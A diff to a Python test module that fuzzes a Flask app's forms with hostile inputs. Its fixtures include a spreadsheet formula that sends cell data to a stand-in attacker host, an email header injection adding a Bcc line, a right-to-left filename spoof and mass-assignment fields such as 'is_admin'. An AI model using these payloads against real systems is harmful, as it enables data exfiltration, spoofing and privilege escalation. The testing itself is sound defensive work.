@@ -37,7 +37,7 @@ HOSTILE = {
     "controls": "a\x01\x07\x08\x0b\x1b[31m\x7f\x85b",
     "long": "W" * 10_000,
     "lines": "a\r\nBcc: victim@example.org\r\n\r\nb",
-    "right to left": "\u202eexe.fdp \u2066שלום\u2069",
+    "right to left": "\u202eexe.fdp \u2066\u05e9\u05dc\u05d5\u05dd\u2069",
     "emoji": "👩🏽‍🚒🏳️‍🌈 e\u0301\u0301\u0301 \U0001f9ff",
     "surrogate": "a\ufffdb\ufeff\u2028c",
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -58,6 +58,8 @@ HOSTILE = {
     "empty": "",
     "like": "%_\\%",
 }
+#: Sent in every field of a form at once, too.
+IN_ALL_FIELDS = {"script", "attribute", "zero", "controls", "long", "huge", "last year"}
 UNKNOWN = {"is_admin": "1", "role": "administrator", "id": "1", "status": "open", "slug": "x"}
 #: Who looks for forms: together they meet every form of the application.
 ROLES = ("administrator", "anonymous", "person", "applicant", "expert", "reviewer")
@@ -195,7 +197,7 @@ def found_forms(app: Flask, world: World) -> Iterator[Found]:
 
 
 def bodies(form: FormOnPage) -> Iterator[tuple[str, str]]:
-    """Fill in a form with each hostile text: in all fields at once, and in one field by turns."""
+    """Fill in a form with each hostile text in one field by turns, and some in all fields."""
     usual = {**form.values}
     for button in form.buttons[:1]:
         if button.name:
@@ -210,7 +212,8 @@ def bodies(form: FormOnPage) -> Iterator[tuple[str, str]]:
     yield "bytes", "&".join(f"{name}=%ff%fe%00%80" for name in names) + "&%ff=%c0%af"
     turn = cycle(names)
     for case, text in HOSTILE.items() if names else ():
-        yield case, urlencode({**usual, **dict.fromkeys(names, text)}, doseq=True)
+        if case in IN_ALL_FIELDS:
+            yield case, urlencode({**usual, **dict.fromkeys(names, text)}, doseq=True)
         name = next(turn)
         yield f"{case} in {name}", urlencode({**usual, name: text}, doseq=True)
 
